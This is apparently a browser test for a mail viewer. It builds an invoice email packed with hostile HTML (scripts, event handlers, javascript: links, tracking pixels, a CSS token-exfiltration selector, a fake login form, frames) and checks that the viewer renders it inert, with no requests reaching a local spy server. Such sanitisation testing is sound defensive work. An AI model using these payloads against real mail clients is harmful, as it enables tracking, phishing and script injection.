import { assertEquals, assertStringIncludes } from "@std/assert";
import { buildMessage } from "../../src/mime/mod.ts";
import { startServe } from "../programs.ts";
import { chromium, openBrowser } from "./browser.ts";

/** A picture of one red point. */
const RED =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==";

/** What mail should not be able to do, each with a request that would tell. */
const hostileHtml = (spy: string) =>
  `<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=${spy}refresh">
<base href="${spy}base/">
<link rel="stylesheet" href="${spy}sheet.css">
<style>@import "${spy}import.css"; body { background: url(${spy}css) }
a[href*="token"] { background: url(${spy}exfiltration) }</style>
<script>document.title = "owned"; fetch("${spy}script")</script></head>
<body background="${spy}background" onload="document.title='owned'">
<h1>Your invoice</h1>
<p style="color:#334; background-image:url(${spy}style)">Dear customer, see <b>below</b>.</p>
<p><img src="cid:red@example.test" width="40" height="40" alt="a red square"
  onerror="document.title='owned'"></p>
<p><img src="${spy}pixel.gif" width="1" height="1"><img src="${spy}photo.jpg" alt="holiday photo"></p>
<form action="${spy}form" method="post"><input name="password" value="secret" autofocus
  onfocus="document.title='owned'"><button>Log in</button></form>
<iframe src="${spy}frame"></iframe><object data="${spy}object"></object><embed src="${spy}embed">
<video src="${spy}video" autoplay poster="${spy}poster"></video><audio src="${spy}audio" autoplay></audio>
<svg><image href="${spy}svg"/><script>document.title = "owned"</script></svg>
<a href="javascript:document.title='owned'" id="trap">click here</a>
<a href="https://shop.example/order?token=1" ping="${spy}ping">your order</a>
<div style="position:fixed;inset:0;z-index:9;background:#fff">overlay</div>
<p>Kind regards</p></body></html>`;

async function writeMail(folder: string, spy: string): Promise<void> {
  const message = buildMessage({
    from: "Shop <shop@example.test>",
    to: "you@example.test",
    subject: "Invoice <script>document.title='owned'</script>",
    html: hostileHtml(spy),
    inline: [{
      type: "image/png",
      contentId: "red@example.test",
      content: Uint8Array.fromBase64(RED),
    }],
  });
  await Deno.writeFile(`${folder}/invoice.eml`, message.stream());
}

Deno.test({
  name: "a mail of scripts, forms, frames and remote images is readable and inert in a browser",
  ignore: chromium === undefined,
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    const told: string[] = [];
    await using spy = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
      told.push(new URL(request.url).pathname);
      return new Response("seen");
    });
    const folder = await Deno.makeTempDir();
    const browser = await openBrowser();
    try {
      await writeMail(folder, `http://127.0.0.1:${spy.addr.port}/`);
      await using server = await startServe(folder);
      const page = await browser.newPage();
      await page.goto(`${server.base}invoice.eml`, { waitUntil: "networkidle" });
      const text = await page.locator("body").innerText();
      for (const words of ["Your invoice", "Dear customer", "holiday photo", "Kind regards"]) {
        assertStringIncludes(text, words);
      }
      const shown = await page.evaluate(
        "[...document.images].map((image) => [image.alt, image.naturalWidth])",
      );
      assertEquals(shown, [["a red square", 1]], "its own picture alone is loaded");
      await page.locator("text=click here").first().click();
      assertEquals(await page.title(), "Invoice <script>document.title='owned'</script>");
      assertEquals(
        await page.locator("form, iframe, object, embed, video, svg, script").count(),
        0,
      );
      assertEquals(told, []);
      const picture = Deno.env.get("SCREENSHOT");
      if (picture) await page.screenshot({ path: picture, fullPage: true });
    } finally {
      await browser.close();
      await Deno.remove(folder, { recursive: true });
    }
  },
});
